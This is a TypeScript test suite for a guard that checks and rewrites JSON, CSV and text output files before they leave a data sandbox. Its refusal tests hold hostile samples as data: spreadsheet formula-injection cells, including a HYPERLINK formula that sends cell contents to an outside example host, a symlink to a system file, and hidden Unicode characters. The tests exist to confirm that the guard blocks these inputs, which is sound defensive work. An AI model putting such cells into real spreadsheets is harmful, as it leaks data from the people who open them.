import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DeclaredOutput } from '@atoll/schemas/metadata/algorithm';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { checkCsv } from './check-csv.ts';
import { checkJson } from './check-json.ts';
import { checkOutputs } from './check-outputs.ts';
import { checkText } from './check-text.ts';

const bytes = (text: string) => new TextEncoder().encode(text);
const text = (value: Uint8Array) => new TextDecoder().decode(value);
const code = (expected: string) => expect.objectContaining({ code: expected });

describe('a folder of outputs', () => {
  let directory: string;
  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), 'atoll-guard-'));
  });
  afterEach(() => rm(directory, { recursive: true, force: true }));

  const metrics: DeclaredOutput = { name: 'metrics.json', type: 'json', maxBytes: 100, required: true };
  const rules = { outputTypes: ['json' as const, 'text' as const], maxOutputBytes: 1000 };
  const check = (declared: DeclaredOutput[] = [metrics], limits = rules) =>
    checkOutputs({ directory, declared, rules: limits });

  test('a declared file leaves, written anew', async () => {
    await writeFile(join(directory, 'metrics.json'), '{ "b": 1,\n "a": 2 }');
    const [output] = await check();
    expect(text(output?.bytes ?? bytes(''))).toBe('{"a":2,"b":1}');
  });

  test('a required file that is not there is output_missing, an optional one is passed over', async () => {
    await expect(check()).rejects.toEqual(code('output_missing'));
    expect(await check([{ ...metrics, required: false }])).toEqual([]);
  });

  test('a file that is not declared is output_undeclared, and its name is not repeated', async () => {
    await writeFile(join(directory, 'metrics.json'), '{}');
    await writeFile(join(directory, 'patient 4711 is ill'), '');
    const error = await check().catch((reason: unknown) => reason);
    expect(error).toEqual(code('output_undeclared'));
    expect(String(error)).not.toContain('4711');
  });

  test('a link or a folder under a declared name is output_undeclared', async () => {
    await symlink('/etc/hostname', join(directory, 'metrics.json'));
    await expect(check()).rejects.toEqual(code('output_undeclared'));
    await rm(join(directory, 'metrics.json'));
    await mkdir(join(directory, 'metrics.json'));
    await expect(check()).rejects.toEqual(code('output_undeclared'));
  });

  test('a file above its own limit or above what the dataset lets leave is output_too_large', async () => {
    await writeFile(join(directory, 'metrics.json'), JSON.stringify('x'.repeat(101)));
    await expect(check()).rejects.toEqual(code('output_too_large'));
    await writeFile(join(directory, 'metrics.json'), JSON.stringify('x'.repeat(50)));
    await expect(check([metrics], { ...rules, maxOutputBytes: 20 })).rejects.toEqual(
      code('output_too_large'),
    );
  });

  test('a type that the data owner does not let out is output_invalid', async () => {
    await writeFile(join(directory, 'metrics.json'), '{}');
    await expect(
      checkOutputs({ directory, declared: [metrics], rules: { ...rules, outputTypes: ['csv'] } }),
    ).rejects.toEqual(code('output_invalid'));
  });
});

test.each([
  [{}, {}, '0.123457'],
  [{ precision: 9 }, {}, '0.123456789'],
  [{ precision: 9 }, { precision: 4 }, '0.1235'],
  [{ precision: 3 }, { precision: 4 }, '0.123'],
])('numbers leave in the fewer digits of manifest %j and rules %j', async (output, rules, expected) => {
  const directory = await mkdtemp(join(tmpdir(), 'atoll-guard-'));
  try {
    await writeFile(join(directory, 'a.json'), '[0.1234567891]');
    const [clean] = await checkOutputs({
      directory,
      declared: [{ name: 'a.json', type: 'json', maxBytes: 100, required: true, ...output }],
      rules: { outputTypes: ['json'], maxOutputBytes: 100, ...rules },
    });
    expect(text(clean?.bytes ?? bytes(''))).toBe(`[${expected}]`);
  } finally {
    await rm(directory, { recursive: true, force: true });
  }
});

describe('json', () => {
  test('doubled keys and white space do not leave', () => {
    expect(text(checkJson('a.json', bytes('{"a": "secret", "a": 1}'), 6))).toBe('{"a":1}');
  });
  test.each(['', '{', '{"a":1e999}', '"\\ud800"', `${'['.repeat(80)}${']'.repeat(80)}`])(
    '%j is refused',
    (value) => {
      expect(() => checkJson('a.json', bytes(value), 6)).toThrow(code('output_invalid'));
    },
  );
  test('any JSON value survives with its meaning', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 5, noUnicodeString: true }), (value) => {
        expect(JSON.parse(text(checkJson('a.json', bytes(JSON.stringify(value)), 17)))).toEqual(
          JSON.parse(JSON.stringify(value)),
        );
      }),
    );
  });
});

describe('precision of json', () => {
  const written = (value: string, precision = 6) => text(checkJson('a.json', bytes(value), precision));

  test('numbers leave rounded, integers of at most 15 digits exactly', () => {
    expect(written('[0.12345678, 1e-7, 123456789, -0.0, 123456789012345, 1234567890123456]')).toBe(
      '[0.123457,1e-7,123456789,0,123456789012345,1234570000000000]',
    );
    expect(written('[0.12345678]', 2)).toBe('[0.12]');
  });
  test('a text that is a number of more digits is rounded, a version or a name is not', () => {
    expect(written('{"0.12345678":"3.14159265358979","v":["1.10","007","2e8","1.2.3","NaN"]}')).toBe(
      '{"0.123457":"3.14159","v":["1.10","007","2e8","1.2.3","NaN"]}',
    );
  });
  test('two keys that become the same number are refused, none is lost', () => {
    expect(() => written('{"0.12345678":1,"0.12345679":2}')).toThrow(code('output_invalid'));
  });
});

const six = { precision: 6 };

describe('csv', () => {
  test('the table is written anew with one kind of quoting and line end', () => {
    expect(text(checkCsv('t.csv', bytes('a,"b"\n"1","x ""y"""\n'), six))).toBe('a,b\r\n1,"x ""y"""\r\n');
  });
  test('rows of other width, control characters and bytes that are not UTF-8 are refused', () => {
    for (const value of ['a,b\n1\n', 'a\n\u0007\n', 'a\n"x'])
      expect(() => checkCsv('t.csv', bytes(value), six)).toThrow(code('output_invalid'));
    expect(() => checkCsv('t.csv', new Uint8Array([0x61, 0x0a, 0xff]), six)).toThrow(code('output_invalid'));
  });
  test.each(['=HYPERLINK("http://a.example/?"&A1)', '@SUM(A1)', '+cmd|x', '-2+cmd|x', '\t=1', ' =1'])(
    'a cell that a spreadsheet would run is refused: %j',
    (cell) => {
      const table = bytes(`a\n"${cell.replaceAll('"', '""')}"\n`);
      expect(() => checkCsv('t.csv', table, six)).toThrow(code('output_invalid'));
    },
  );
  test('numbers leave in one form and rounded; names and identifiers stay as they are', () => {
    const rows = [
      ['-1.5', '+2e-3', '1.50', '-0.0', '+7', '1234567.891', '3.14159265'],
      ['-', '007', '12e45', '1.2.3', '123456789012345', '12345678901234567', ' 0.1000 '],
    ];
    const table = ['a,b,c,d,e,f,g', ...rows.map((row) => row.join(','))].join('\n');
    expect(text(checkCsv('t.csv', bytes(table), six))).toBe(
      [
        'a,b,c,d,e,f,g',
        '-1.5,0.002,1.5,0,7,1234570,3.14159',
        '-,007,12e45,1.2.3,123456789012345,12345700000000000,0.1',
        '',
      ].join('\r\n'),
    );
  });
  test.each(['nan', 'NaN', '-inf', 'Infinity', '1.5e999'])('%s is no number that may leave', (cell) => {
    expect(() => checkCsv('t.csv', bytes(`a\n${cell}\n`), six)).toThrow(code('output_invalid'));
  });
  test.each(['\u200b', '\u2066', '\u00ad', '\u{e0041}', '\u0085'])(
    'an invisible %j in a cell is refused',
    (hidden) => {
      expect(() => checkCsv('t.csv', bytes(`a\nx${hidden}y\n`), six)).toThrow(code('output_invalid'));
    },
  );
  test('a cell of a million digits that is no number is refused at once', () => {
    // Many minutes, were the digits shared out between two parts of a number in every way.
    expect(() => checkCsv('t.csv', bytes(`a\n-${'1'.repeat(1_000_000)}x\n`), six)).toThrow(
      code('output_invalid'),
    );
  });
  test('more rows than declared are output_too_large', () => {
    expect(() => checkCsv('t.csv', bytes('a\n1\n2\n3\n'), { precision: 6, maxRows: 2 })).toThrow(
      code('output_too_large'),
    );
    expect(text(checkCsv('t.csv', bytes('a\n1\n2\n'), { precision: 6, maxRows: 2 }))).toBe('a\r\n1\r\n2\r\n');
  });
});

describe('text', () => {
  test('plain text leaves as it is', () => {
    expect(text(checkText('log.txt', bytes('first\tline\r\nsecond é\n')))).toBe('first\tline\nsecond é\n');
  });
  test.each([
    '\u0000',
    '\u001b[31m',
    '\u200b',
    '\ufeffx',
    'a\u2066b\u2069',
    'a\u061cb',
    'a\u00adb',
    'a\u2028b',
    'a\u{e0041}b',
  ])('%j is refused', (value) => {
    expect(() => checkText('log.txt', bytes(value))).toThrow(code('output_invalid'));
  });
});
